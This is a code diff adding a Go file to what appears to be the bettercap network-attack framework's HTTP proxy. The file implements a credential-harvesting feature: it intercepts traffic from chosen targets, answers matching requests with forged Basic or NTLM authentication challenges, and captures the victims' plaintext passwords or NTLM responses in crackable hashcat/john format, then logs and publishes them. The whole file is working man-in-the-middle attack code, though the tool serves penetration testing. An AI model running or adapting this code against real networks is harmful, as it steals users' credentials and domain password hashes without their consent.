@@ -0,0 +1,261 @@
+package http_proxy
+
+import (
+	"crypto/rand"
+	"encoding/base64"
+	"fmt"
+	"net"
+	"net/http"
+	"regexp"
+	"strings"
+	"sync"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/elazarl/goproxy"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	ChallengeBasic = "basic"
+	ChallengeNTLM  = "ntlm"
+)
+
+// ChallengeEvent are the credentials a victim sent to an authentication
+// challenge of the proxy, they're emitted as *.proxy.challenge.credentials.
+type ChallengeEvent struct {
+	Client      string `json:"client"`
+	ClientMAC   string `json:"client_mac"`
+	Host        string `json:"host"`
+	URL         string `json:"url"`
+	Scheme      string `json:"scheme"`
+	Domain      string `json:"domain,omitempty"`
+	Username    string `json:"username"`
+	Password    string `json:"password,omitempty"`
+	Workstation string `json:"workstation,omitempty"`
+	Version     string `json:"version,omitempty"`
+	// hashcat / john compatible representation of the NTLM response
+	Hash string `json:"hash,omitempty"`
+}
+
+// authChallenger answers the requests matching its patterns with a 401, or a
+// 407 in proxy mode, until the victim sends credentials for the host.
+type authChallenger struct {
+	sync.Mutex
+	urls      []*regexp.Regexp
+	scheme    string
+	proxy     bool
+	realm     string
+	challenge []byte
+	// victims that already sent credentials for a host aren't challenged again
+	captured map[string]bool
+}
+
+func newAuthChallenger(patterns []string, scheme string, proxy bool, realm string) (*authChallenger, error) {
+	c := &authChallenger{
+		scheme:    scheme,
+		proxy:     proxy,
+		realm:     realm,
+		challenge: make([]byte, 8),
+		captured:  make(map[string]bool),
+	}
+
+	if scheme != ChallengeBasic && scheme != ChallengeNTLM {
+		return nil, fmt.Errorf("unknown authentication scheme '%s'", scheme)
+	} else if _, err := rand.Read(c.challenge); err != nil {
+		return nil, err
+	}
+
+	for _, pattern := range patterns {
+		if pattern = strings.TrimSpace(pattern); pattern == "" {
+			continue
+		} else if re, err := regexp.Compile("(?i)" + pattern); err != nil {
+			return nil, fmt.Errorf("invalid challenge pattern '%s': %s", pattern, err)
+		} else {
+			c.urls = append(c.urls, re)
+		}
+	}
+
+	return c, nil
+}
+
+// matches returns true if the host and path of the request match a pattern.
+func (c *authChallenger) matches(req *http.Request) bool {
+	url := strings.ToLower(stripPort(req.Host)) + req.URL.Path
+	for _, re := range c.urls {
+		if re.MatchString(url) {
+			return true
+		}
+	}
+	return false
+}
+
+func (c *authChallenger) header() string {
+	if c.proxy {
+		return "Proxy-Authorization"
+	}
+	return "Authorization"
+}
+
+func (c *authChallenger) response(req *http.Request, value string) *http.Response {
+	status, header := http.StatusUnauthorized, "WWW-Authenticate"
+	if c.proxy {
+		status, header = http.StatusProxyAuthRequired, "Proxy-Authenticate"
+	}
+
+	res := goproxy.NewResponse(req, "text/plain", status, http.StatusText(status))
+	res.Header.Set(header, value)
+	// NTLM authenticates the connection, it must be kept open
+	res.Header.Set("Connection", "keep-alive")
+	return res
+}
+
+func (c *authChallenger) offer(req *http.Request) string {
+	if c.scheme == ChallengeNTLM {
+		return "NTLM"
+	}
+
+	realm := c.realm
+	if realm == "" {
+		realm = stripPort(req.Host)
+	}
+	return fmt.Sprintf("Basic realm=\"%s\"", strings.Replace(realm, "\"", "'", -1))
+}
+
+// ntlm returns the CHALLENGE message to send the victim in response to its
+// NEGOTIATE message, or the credentials of its AUTHENTICATE message.
+func (c *authChallenger) ntlm(req *http.Request, scheme string, raw []byte) (*http.Response, *ChallengeEvent) {
+	if msg := packets.FindNTLM(raw, packets.NTLMNegotiate); msg != nil {
+		domain := c.realm
+		if domain == "" {
+			domain = "WORKGROUP"
+		}
+		computer := strings.ToUpper(strings.Split(stripPort(req.Host), ".")[0])
+		challenge := packets.NewNTLMChallenge(c.challenge, domain, computer)
+		return c.response(req, scheme+" "+base64.StdEncoding.EncodeToString(challenge)), nil
+	} else if msg := packets.FindNTLM(raw, packets.NTLMAuthenticate); msg != nil {
+		if err, h := packets.ParseNTLMAuthenticate(msg, c.challenge); err == nil {
+			return nil, &ChallengeEvent{
+				Scheme:      ChallengeNTLM,
+				Domain:      h.Domain,
+				Username:    h.Username,
+				Workstation: h.Workstation,
+				Version:     h.Version,
+				Hash:        h.Hash,
+			}
+		}
+	}
+	return c.response(req, c.offer(req)), nil
+}
+
+// handle returns either the response challenging the victim or, once it
+// sends them, its credentials.
+func (c *authChallenger) handle(req *http.Request) (*http.Response, *ChallengeEvent) {
+	parts := strings.SplitN(strings.TrimSpace(req.Header.Get(c.header())), " ", 2)
+	if len(parts) != 2 {
+		return c.response(req, c.offer(req)), nil
+	}
+
+	scheme := parts[0]
+	raw, err := base64.StdEncoding.DecodeString(strings.TrimSpace(parts[1]))
+	if err != nil {
+		return c.response(req, c.offer(req)), nil
+	}
+
+	if c.scheme == ChallengeNTLM && (strings.EqualFold(scheme, "NTLM") || strings.EqualFold(scheme, "Negotiate")) {
+		return c.ntlm(req, scheme, raw)
+	} else if c.scheme == ChallengeBasic && strings.EqualFold(scheme, "Basic") {
+		if creds := strings.SplitN(string(raw), ":", 2); len(creds) == 2 && creds[0] != "" {
+			return nil, &ChallengeEvent{
+				Scheme:   ChallengeBasic,
+				Username: creds[0],
+				Password: creds[1],
+			}
+		}
+	}
+
+	return c.response(req, c.offer(req)), nil
+}
+
+// capture returns true the first time credentials are captured for the
+// victim and host.
+func (c *authChallenger) capture(key string) bool {
+	c.Lock()
+	defer c.Unlock()
+
+	first := !c.captured[key]
+	c.captured[key] = true
+	return first
+}
+
+func (c *authChallenger) isCaptured(key string) bool {
+	c.Lock()
+	defer c.Unlock()
+	return c.captured[key]
+}
+
+func (p *HTTPProxy) configureChallenge() (err error) {
+	p.challenger = nil
+	if len(p.ChallengeURLs) > 0 {
+		if p.challenger, err = newAuthChallenger(p.ChallengeURLs, p.ChallengeScheme, p.ChallengeProxy, p.ChallengeRealm); err != nil {
+			return err
+		} else if len(p.challenger.urls) == 0 {
+			p.challenger = nil
+		} else {
+			p.Info("challenging %s with %s authentication", strings.Join(p.ChallengeURLs, ", "), tui.Bold(p.ChallengeScheme))
+		}
+	}
+	return nil
+}
+
+// challenge returns the response challenging the victim for credentials if
+// the request has to be, nil once it sent them or if it's not a target.
+func (p *HTTPProxy) challenge(req *http.Request) *http.Response {
+	c := p.challenger
+	if c == nil || !c.matches(req) {
+		return nil
+	}
+
+	client := stripPort(req.RemoteAddr)
+	host := strings.ToLower(stripPort(req.Host))
+	key := client + " " + host
+	if c.isCaptured(key) || !p.isVictim(p.ChallengeTargets, client) {
+		return nil
+	} else if ip := net.ParseIP(client); ip != nil && !p.sess.IPInScope(ip, p.Name+" authentication challenge") {
+		return nil
+	}
+
+	res, ev := c.handle(req)
+	if ev == nil {
+		p.Debug("challenging %s for %s authentication to %s", client, c.scheme, host)
+		return res
+	}
+
+	// the host didn't ask for our Proxy-Authorization nor for NTLM
+	if c.proxy || c.scheme == ChallengeNTLM {
+		req.Header.Del(c.header())
+	}
+
+	if c.capture(key) {
+		ev.Client = client
+		if e := p.sess.Lan.GetByIp(client); e != nil {
+			ev.ClientMAC = e.HwAddress
+		}
+		ev.Host = host
+		ev.URL = fmt.Sprintf("%s%s", req.Host, req.URL.Path)
+		p.sess.Events.Add(p.Name+".challenge.credentials", *ev)
+		p.sess.Bus.Publish(session.TopicCredential, p.Name, session.Credential{
+			Protocol: "http." + ev.Scheme,
+			Client:   ev.Client,
+			Server:   ev.Host,
+			Domain:   ev.Domain,
+			Username: ev.Username,
+			Password: ev.Password,
+			Hash:     ev.Hash,
+		})
+	}
+
+	return nil
+}